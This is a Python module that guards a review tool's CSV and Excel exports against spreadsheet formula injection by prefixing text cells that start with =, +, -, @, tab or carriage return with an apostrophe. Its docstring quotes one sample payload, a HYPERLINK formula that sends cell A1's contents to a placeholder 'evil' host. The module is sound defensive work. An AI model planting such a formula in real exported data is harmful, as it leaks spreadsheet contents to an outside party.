"""Spreadsheet-safe cells: text from the reviewed documents must never run as a formula.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
that some programs skip before looking for one) is a formula to Excel, LibreOffice
and Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a translation
would run when a reviewer opens ``worklist.csv``.  :func:`spreadsheet_safe` is the
one place that neutralises such text (OWASP's advice: a leading apostrophe, which
spreadsheets show as text and do not display).  Every CSV or Excel writer of the
review layer passes its text cells through it; numbers are left as numbers.
"""
from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` itself, except text a spreadsheet would read as a formula, which gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
